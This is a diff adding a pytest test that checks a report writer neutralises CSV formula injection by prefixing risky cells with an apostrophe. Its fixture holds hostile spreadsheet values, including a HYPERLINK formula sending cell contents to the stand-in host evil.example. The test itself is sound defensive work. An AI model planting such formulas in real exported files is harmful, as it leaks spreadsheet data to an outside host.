@@ -69,3 +69,30 @@ def test_write_report(tmp_path: Path) -> None:
     data = json.loads(Path(final.report_json).read_text("utf-8"))
     assert data["summary"]["report_json"] == final.report_json and len(data["items"]) == 2
     assert all("049085001234" not in line for line in final.lines())
+
+
+def test_d6_report_csv_escapes_formula_cells(tmp_path: Path) -> None:
+    """D6: a cell a spreadsheet would run as a formula is written with a leading apostrophe."""
+    batch = Batch(8, "lô 8", "done", ("/in",), {}, {}, NOW, NOW, NOW)
+    hostile = {
+        "holder_name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+        "issuer": "@SUM(A1:A9)",
+        "document_number": "+1+1",
+        "locality": "-2+3",
+        "document_type": "\t=1+1",
+    }
+    items = [
+        BatchItem(8, "=cmd.pdf", "indexed", "\r=1", "kho-00000000000000000002", (), 1, 80.0,
+                  ("+warn",), {"files": ["=cmd.pdf"], **hostile}, NOW),
+    ]
+    summary = BatchSummary(8, "lô 8", "done", 1, 1, 1, 0, 1, 1, 0, 0, 0, 1.0, 60.0)
+    final = write_report(tmp_path, batch, items, summary)
+    with open(final.report_csv, encoding="utf-8-sig", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["holder_name"] == "'" + hostile["holder_name"]
+    assert row["issuer"] == "'@SUM(A1:A9)" and row["document_number"] == "'+1+1" and row["locality"] == "'-2+3"
+    assert row["document_type"] == "'\t=1+1" and row["error"] == "'\r=1"
+    assert row["key"] == "'=cmd.pdf" and row["files"] == "'=cmd.pdf" and row["warnings"] == "'+warn"
+    assert row["pages"] == "1" and row["mean_confidence"] == "80.0" and row["status"] == "indexed"
+    data = json.loads(Path(final.report_json).read_text("utf-8"))
+    assert data["items"][0]["holder_name"] == hostile["holder_name"]  # JSON keeps the value as it is
